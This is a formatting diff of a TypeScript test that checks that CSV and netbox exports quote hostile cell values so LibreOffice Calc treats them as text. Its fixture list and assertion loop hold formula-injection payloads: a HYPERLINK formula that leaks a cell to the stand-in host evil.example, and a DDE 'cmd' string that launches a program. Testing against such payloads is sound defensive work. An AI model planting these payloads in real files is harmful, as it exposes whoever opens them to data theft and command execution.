@@ -16,15 +16,7 @@ const hasSoffice = existsSync(SOFFICE);
 const tmp = tempDir('headroom-csv-injection-');
 afterAll(() => tmp.cleanup());
 
-const HOSTILE = [
-  '=HYPERLINK("http://evil.example/?leak="&A1;"click me")',
-  "+cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  '-2+3',
-  '=1+1',
-  '\t=1+1',
-  '\r=2+2',
-];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"click me")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1', '\t=1+1', '\r=2+2'];
 const HARMLESS = ['- spare', '-', "'=already quoted", "''", "'quoted'", "don't", ' leading and trailing space ', 'Acme, Ltd', 'two\nlines', 'plain'];
 const DESCRIPTIONS = [...HOSTILE, ...HARMLESS];
 
@@ -46,27 +38,45 @@ function calcCells(csv: string): { formula: string | null; text: string }[] {
     timeout: 120_000,
   });
   const xml = readFileSync(tmp.path(`export-${n}.fods`), 'utf8');
-  const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
+  const unescape = (s: string) =>
+    s
+      .replace(/&quot;/g, '"')
+      .replace(/&apos;/g, "'")
+      .replace(/&lt;/g, '<')
+      .replace(/&gt;/g, '>')
+      .replace(/&amp;/g, '&');
   const cells: { formula: string | null; text: string }[] = [];
   for (const m of xml.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
     const formula = /table:formula="([^"]*)"/.exec(m[1]!)?.[1];
-    const paragraphs = [...(m[2] ?? '').matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) => unescape(p[1]!.replace(/<text:tab\/>/g, '\t').replace(/<text:s\/>/g, ' ').replace(/<[^>]+>/g, '')));
+    const paragraphs = [...(m[2] ?? '').matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) =>
+      unescape(
+        p[1]!
+          .replace(/<text:tab\/>/g, '\t')
+          .replace(/<text:s\/>/g, ' ')
+          .replace(/<[^>]+>/g, ''),
+      ),
+    );
     cells.push({ formula: formula === undefined ? null : unescape(formula), text: paragraphs.join('\n') });
   }
   return cells;
 }
 
 describe.runIf(hasSoffice)('the csv and netbox exports in LibreOffice Calc', () => {
-  it.each(['csv', 'netbox'] as const)('%s: no cell is a formula; each hostile description comes back as text behind a quote', async (format) => {
-    const ws = await workspaceWithDescriptions();
-    const { text } = exportPrefixes(ws, { format });
-    const cells = calcCells(text);
-    expect(cells.filter((c) => c.formula !== null)).toEqual([]);
-    const texts = cells.map((c) => c.text);
-    for (const d of ['=HYPERLINK("http://evil.example/?leak="&A1;"click me")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1']) expect(texts).toContain(`'${d}`);
-    expect(texts).toContain('- spare'.replace(/^/, "'"));
-    expect(texts).toContain("don't");
-  }, 240_000);
+  it.each(['csv', 'netbox'] as const)(
+    '%s: no cell is a formula; each hostile description comes back as text behind a quote',
+    async (format) => {
+      const ws = await workspaceWithDescriptions();
+      const { text } = exportPrefixes(ws, { format });
+      const cells = calcCells(text);
+      expect(cells.filter((c) => c.formula !== null)).toEqual([]);
+      const texts = cells.map((c) => c.text);
+      for (const d of ['=HYPERLINK("http://evil.example/?leak="&A1;"click me")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1'])
+        expect(texts).toContain(`'${d}`);
+      expect(texts).toContain('- spare'.replace(/^/, "'"));
+      expect(texts).toContain("don't");
+    },
+    240_000,
+  );
 });
 
 describe('export then import', () => {
